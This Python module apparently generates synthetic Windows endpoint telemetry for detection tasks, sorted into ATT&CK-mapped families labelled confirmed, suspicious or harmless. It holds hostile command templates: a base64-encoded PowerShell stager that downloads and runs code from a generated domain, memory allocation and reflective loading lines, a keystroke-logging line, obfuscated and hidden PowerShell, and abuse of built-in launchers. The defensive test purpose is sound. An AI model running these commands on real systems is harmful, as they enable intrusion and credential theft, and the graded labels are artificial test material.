"""Programs that start from where they should not, hide what they are, or run code of others."""

from __future__ import annotations

import base64

from tasks.families.story import launch
from tasks.families.tellings import Row, connect, made, script, start
from tasks.paths import EXPLORER, OWN_FOLDER, POWERSHELL, SYSTEM32
from tasks.scene import FIRM, HOST, TOOL, Family, Plan, Scene, TicketScope, actor

CMD = SYSTEM32 + "cmd.exe"
SVCHOST = SYSTEM32 + "svchost.exe"
BROWSER = "C:\\Program Files\\Mozilla Firefox\\firefox.exe"

# ---------------------------------------------------------------- launchers and loose programs
_SHELLS = (
    (CMD, "cmd.exe /c {apps}\\{word}.cmd"),
    (CMD, "cmd.exe /c dir D:\\{word} /b"),
    (POWERSHELL, "powershell.exe -File {apps}\\{word}.ps1"),
    (SYSTEM32 + "cscript.exe", "cscript.exe //b {apps}\\{word}.vbs"),
)
_LAUNCHERS = (
    ("mshta.exe", "mshta.exe {apps}\\{word}.hta"),
    ("regsvr32.exe", "regsvr32.exe /s {apps}\\{word}.dll"),
    ("hh.exe", "hh.exe {apps}\\{word}.chm"),
    ("control.exe", "control.exe {apps}\\{word}.cpl"),
    ("odbcconf.exe", 'odbcconf.exe /a "CONFIGDSN {word}"'),
    ("installutil.exe", "installutil.exe {apps}\\{word}.dll"),
    ("msbuild.exe", "msbuild.exe D:\\{word}\\{word2}.csproj"),
)
_USER_FILES = (
    ("rundll32.exe", "rundll32.exe {%s}\\{word}.dll,Start {apps3}"),
    ("regsvr32.exe", "regsvr32.exe /s {%s}\\{word}.dll"),
    ("mshta.exe", "mshta.exe {%s}\\{word}.hta {apps3}"),
)
_USER_SCRIPTS = (
    ("wscript.exe", "wscript.exe //b {%s}\\{word}.vbs {apps3}"),
    ("cscript.exe", "cscript.exe //nologo {%s}\\{word}.js {apps3}"),
    ("hh.exe", "hh.exe {%s}\\{word}.chm"),
    ("control.exe", "control.exe {%s}\\{word}.cpl"),
    ("installutil.exe", "installutil.exe {%s}\\{word}.dll"),
    ("regasm.exe", "regasm.exe /silent {%s}\\{word}.dll"),
    ("regsvcs.exe", "regsvcs.exe {%s}\\{word}.dll"),
)
_CHILDREN = ("winver.exe", "dfrgui.exe", "msinfo32.exe", "mobsync.exe")


def _launched_file(launchers: tuple[tuple[str, str], ...], folder: str, parent: str) -> list[list[Row]]:
    """List tellings of launchers that are given a file of a folder, and of a program that a parent (the launcher: "") starts then."""
    return [
        [
            start(SYSTEM32 + name, command % folder),
            start(SYSTEM32 + child, parent=parent or SYSTEM32 + name, after=(2, 200)),
        ]
        for name, command in launchers
        for child in _CHILDREN
    ]


def _opened_file(launchers: tuple[tuple[str, str], ...]) -> list[list[Row]]:
    """List tellings of an installed program that opens what launchers are given, and starts one of its own."""
    return [
        [
            start("{installed}", "{installed} " + (command % "loose").partition(" ")[2]),
            start("{apps2}\\{word3}.exe", parent="{installed}", after=(2, 200)),
        ]
        for _, command in launchers
        for _ in _CHILDREN
    ]


# ---------------------------------------------------------------- PowerShell
_OBFUSCATED = (
    "& ($env:ComSpec[4,15,25]-join'') '{word}'",
    "$t = [char[]](71,101,116,45,68) -join ''; & $t",
    "& ('{2}{0}{1}' -f '{word}','{word2}','Get-')",
    "$k = 35; -join ($b | % { [char]($_ -bxor $k) })",
    "[string]::join('', ('{word}','{word2}')) | Out-Null",
)
_PLAIN = (
    "& ($env:ComSpec) '{word}'",
    "$t = 'Get-D' + 'ate'; & $t",
    "& ('{0}-{1}' -f 'Get','Date') '{word}'",
    "$k = 35; -join ($b | % { [char]($_ -bor $k) })",
    "[string]::Concat('{word}','{word2}') | Out-Null",
)
_FOREIGN_CODE = (
    "$p = [Win32]::VirtualAlloc(0, 4096, 0x3000, 0x40)",
    "[Reflection.Assembly]::Load($bytes).EntryPoint.Invoke($null, $null)",
    "$k = [Win32]::GetAsyncKeyState($n); Add-Content D:\\{word}.txt $k",
    "$a = [Win32]::GetProcAddress($m, '{word}')",
    "$s = New-Object IO.Pipes.NamedPipeServerStream('{word}')",
)
_OWN_CODE = (
    "$p = [Runtime.InteropServices.Marshal]::AllocHGlobal(4096)",
    "[Reflection.Assembly]::LoadWithPartialName('System.Web').FullName",
    "$k = [Console]::ReadKey($n); Add-Content D:\\{word}.txt $k",
    "$a = [Win32]::GetModuleHandle('{word}')",
    "$s = New-Object IO.Pipes.NamedPipeClientStream('{word}')",
)
_HIDDEN = (
    "powershell.exe -nop -w hidden -File D:\\{word3}\\{word4}.ps1",
    "powershell.exe -NonInteractive -WindowStyle Hidden -File {apps}\\{word4}.ps1",
    "powershell.exe -ep bypass -w 1 -File D:\\{word3}\\{word4}.ps1",
)
_SHOWN = (
    "powershell.exe -nop -w normal -File D:\\{word3}\\{word4}.ps1",
    "powershell.exe -NonInteractive -File {apps}\\{word4}.ps1",
    "powershell.exe -w hidden -File D:\\{word3}\\{word4}.ps1",
)


def _scripted(texts: tuple[str, ...], commands: tuple[str, ...]) -> list[list[Row]]:
    return [[script(*texts), start(POWERSHELL, commands, (EXPLORER, SVCHOST, CMD), after=(2, 600))]]


def encoded_stager(scene: Scene, plan: Plan) -> TicketScope:
    """Tell how cmd starts PowerShell with an encoded command that fetches code; in the harmless strength, one that lists things."""
    who, at, name = actor(scene, plan), scene.moment(60), scene.word()
    site = f"http://{scene.domain()}/{name}"
    hostile = (
        f"IEX (New-Object Net.WebClient).DownloadString('{site}')",
        f"Invoke-WebRequest {site} -OutFile D:\\{name}.dat",
        f"Start-BitsTransfer -Source {site} -Destination D:\\{name}.dat",
        f"$b = [Convert]::FromBase64String((Get-Content D:\\{name}.txt))",
    )
    harmless = (
        f"Test-NetConnection {site[7 : -len(name) - 1]} -Port 443",
        f"Get-ChildItem D:\\{name} | Export-Csv D:\\{name}.csv",
        f"Get-Service {name} | Restart-Service -PassThru | Out-String",
        f"$b = [Convert]::ToInt32((Get-Content D:\\{name}.txt))",
    )
    text = scene.pick(harmless if plan.strength == "below" else hostile)
    code = base64.b64encode(text.encode("utf-16-le")).decode()
    order = scene.pick(("powershell -enc", "powershell.exe -NoLogo -e", "powershell -sta -EncodedCommand"))
    launch(scene, at, who, CMD, f"cmd.exe /c {order} {code}", scene.pick((EXPLORER, SVCHOST)))
    return who.scope("cmd.exe", at, at)


# ---------------------------------------------------------------- names, threads and memory
_SYSTEM_NAMES = (
    "svchost.exe",
    "lsass.exe",
    "services.exe",
    "csrss.exe",
    "smss.exe",
    "wininit.exe",
    "winlogon.exe",
    "spoolsv.exe",
    "taskhostw.exe",
    "dwm.exe",
    "conhost.exe",
    "rundll32.exe",
)
_TOOLS = (
    "cmd.exe",
    "certutil.exe",
    "bitsadmin.exe",
    "powershell.exe",
    "schtasks.exe",
    "reg.exe",
    "wscript.exe",
    "net.exe",
    "ntdsutil.exe",
    "psexesvc.exe",
)
_TARGETS = tuple(SYSTEM32 + name for name in ("svchost.exe", "spoolsv.exe", "taskhostw.exe", "RuntimeBroker.exe"))
_UNBACKED = "C:\\Windows\\System32\\ntdll.dll+9d1e4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|UNKNOWN(0000{hex})"
_BACKED = "C:\\Windows\\System32\\ntdll.dll+9d1e4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|{apps}\\{word}.dll+{hex}"
_RIGHTS = ("0x1fffff", "0x143a", "0x47a")


def _named(path: str, original: str) -> list[Row]:
    return [start(path, parent=(EXPLORER, SVCHOST), also={"process_original_name": original})]


def _opened(program: str, trace: str, rights: object = _RIGHTS) -> list[Row]:
    fields = {"process_path": program, "target_path": _TARGETS, "access_mask": rights, "call_trace": trace}
    return [Row("process_access", "open", fields)]


def _threaded(program: str, module: str, target: object = _TARGETS, **more: object) -> Row:
    fields = {"process_path": program, "target_path": target, "start_module": module}
    return Row("process_inject", "remote_thread", fields, **more)  # type: ignore[arg-type]


def _injected(program: str, target: str = SYSTEM32 + "dllhost.exe") -> list[Row]:
    """Tell how a program starts, starts another and puts a thread into it."""
    return [
        start(program),
        start(target, target + " /Processid:{hex}", parent=program, after=(1, 60)),
        _threaded(program, SYSTEM32 + "ntdll.dll", target, after=(1, 20)),
    ]


def _served(shell: str, command: object, parent: str, caller: str) -> list[Row]:
    return [start(shell, command, parent), connect(caller, after=(2, 200))]


_SERVERS = (SYSTEM32 + "inetsrv\\w3wp.exe", "C:\\Program Files\\Apache\\bin\\httpd.exe", "D:\\Tomcat\\bin\\tomcat9.exe")
_ASKED = ("cmd.exe /c dir D:\\{word} /s /b", "cmd.exe /c type D:\\{word}\\{word2}.config", "cmd.exe /c ver")
_CARRIED = ("cmd.exe /c D:\\{word}\\{word2}.exe {word3}.html", 'cmd.exe /s /c "D:\\{word}\\{word2}.exe {word3} 2>&1"')
_WORKED = "C:\\Program Files\\Git\\bin\\git.exe"
_PORTS = (389, 445, 636, 3268, 5985)

FAMILIES: tuple[Family, ...] = (
    made(
        "launched_shell",
        "T1059",
        "execution",
        ("launcher-starts-shell",),
        suspicious=[[start(shell, command, SYSTEM32 + name)] for shell, command in _SHELLS for name, _ in _LAUNCHERS],
        below=[[start(SYSTEM32 + name, command, shell)] for shell, _ in _SHELLS for name, command in _LAUNCHERS]
        + [[start(shell, command)] for shell, command in _SHELLS for _ in range(3)],
    ),
    made(
        "loose_tool",
        "T1204.002",
        "execution",
        ("loose-program",),
        confirmed=[
            [start("{writable}", parent=POWERSHELL), start(CMD, "cmd.exe /c {word}.cmd", "{writable}")],
            [start("{writable}", parent=POWERSHELL), connect("{writable}")],
            [start("{writable}", parent=CMD), connect("{writable}", _PORTS, inside=True)],
        ],
        suspicious=[
            [start("{writable}", parent=POWERSHELL), start(CMD, "cmd.exe /c {word}.cmd")],
            [start("{writable}"), start(CMD, "cmd.exe /c {word}.cmd", "{writable}")],
            [start("{writable}", parent=POWERSHELL), connect(BROWSER)],
            [start("{writable}"), connect("{writable}", _PORTS, inside=True)],
        ],
        below=[
            [start("{writable}"), start(CMD, "cmd.exe /c {word}.cmd")],
            [start("{writable}"), connect("{writable}")],
            [start("{installed}", parent=POWERSHELL), connect("{installed}", _PORTS, inside=True)],
            [start("{installed}", parent=POWERSHELL), start(CMD, "cmd.exe /c {word}.cmd", "{installed}")],
        ],
        reaches=HOST,
    ),
    made(
        "obfuscated_code",
        "T1027",
        "defense_evasion",
        ("obfuscated-script",),
        "powershell.exe",
        confirmed=_scripted(_OBFUSCATED, _HIDDEN),
        suspicious=_scripted(_OBFUSCATED, _SHOWN),
        below=_scripted(_PLAIN, _SHOWN),
        reaches=HOST,
        explanations=TOOL,
    ),
    Family(
        "encoded_stager",
        "T1027.010",
        "execution",
        encoded_stager,
        HOST,
        FIRM,
        single=True,
        rules=("encoded-stager",),
    ),
    made(
        "foreign_code",
        "T1620",
        "execution",
        ("offensive-script",),
        "powershell.exe",
        confirmed=_scripted(_FOREIGN_CODE, _HIDDEN),
        suspicious=_scripted(_FOREIGN_CODE, _SHOWN),
        below=_scripted(_OWN_CODE, _SHOWN),
        reaches=HOST,
        explanations=TOOL,
    ),
    made(
        "borrowed_name",
        "T1036",
        "defense_evasion",
        ("masquerading-program",),
        confirmed=[
            *(_named(f"{folder}\\{name}", name) for name in _SYSTEM_NAMES for folder in ("C:\\Windows", "D:\\{word}")),
            *(_named("{writable}", name) for name in _TOOLS for _ in range(2)),
        ],
        below=[
            *(_named(SYSTEM32 + name, name) for name in _SYSTEM_NAMES for _ in range(2)),
            *(_named("{installed}", name) for name in _TOOLS),
            *(_named("{writable}", "{word2}.exe") for _ in _TOOLS),
        ],
        reaches=HOST,
    ),
    made(
        "launched_file",
        "T1218",
        "defense_evasion",
        ("launcher-runs-user-file",),
        confirmed=_launched_file(_USER_FILES, "loose", ""),
        suspicious=_launched_file(_USER_FILES, "loose", EXPLORER),
        below=_launched_file(_USER_FILES, "apps", "") + _opened_file(_USER_FILES),
        reaches=HOST,
        explanations=TOOL,
    ),
    made(
        "launched_script",
        "T1218",
        "defense_evasion",
        ("launcher-runs-user-file",),
        confirmed=_launched_file(_USER_SCRIPTS, "loose", ""),
        suspicious=_launched_file(_USER_SCRIPTS, "loose", EXPLORER),
        below=_launched_file(_USER_SCRIPTS, "apps", "") + _opened_file(_USER_SCRIPTS),
        reaches=HOST,
    ),
    made(
        "unbacked_code",
        "T1055",
        "defense_evasion",
        ("unbacked-code",),
        confirmed=[_opened("{writable}", _UNBACKED)],
        suspicious=[_opened(program, _UNBACKED) for program in ("D:\\Tools\\{word}.exe", "{installed}", EXPLORER)],
        below=[
            _opened("{writable}", _BACKED),
            _opened("{installed}", _BACKED),
            _opened("{writable}", _UNBACKED, ("0x1000", "0x1410")),
        ],
        reaches=HOST,
    ),
    made(
        "thread_of_installed",
        "T1055.001",
        "privilege_escalation",
        ("installed-injector",),
        confirmed=[
            [_threaded(POWERSHELL, SYSTEM32 + "kernel32.dll")],
            [_threaded("{installed}", "0x0000{hex}0000")],
            [_threaded(SYSTEM32 + "mavinject.exe", SYSTEM32 + "kernel32.dll")],
            [_threaded(SYSTEM32 + "rundll32.exe", "0x0000{hex}0000")],
        ],
        below=[
            [_threaded("{installed}", SYSTEM32 + "kernel32.dll")],
            [_threaded("{installed}", "0x0000{hex}0000", SYSTEM32 + "csrss.exe")],
            [_threaded(SYSTEM32 + "csrss.exe", "0x0000{hex}0000")],
            [_threaded(POWERSHELL, SYSTEM32 + "kernel32.dll", POWERSHELL)],
        ],
        reaches=HOST,
    ),
    made(
        "hollowed_program",
        "T1055.012",
        "defense_evasion",
        ("code-injection",),
        confirmed=[_injected("{writable}")],
        suspicious=[_injected("D:\\Tools\\{word}.exe"), _injected("E:\\{word}\\{word2}.exe")],
        below=[
            _injected("{installed}"),
            _injected(OWN_FOLDER + "{word2}.exe", OWN_FOLDER + "{word3}.exe"),
            _injected(OWN_FOLDER + "bin\\{word2}.exe", OWN_FOLDER + "{word3}.exe"),
        ],
        reaches=HOST,
    ),
    made(
        "served_shell",
        "T1505.003",
        "execution",
        ("application-spawns-shell",),
        confirmed=[_served(CMD, _ASKED, parent, CMD) for parent in _SERVERS],
        suspicious=[_served(CMD, _ASKED, parent, caller) for parent in _SERVERS for caller in (parent, _WORKED)],
        below=[_served(CMD, _CARRIED, parent, CMD) for parent in _SERVERS]
        + [_served(CMD, _ASKED, SVCHOST, parent) for parent in _SERVERS],
        reaches=HOST,
    ),
)
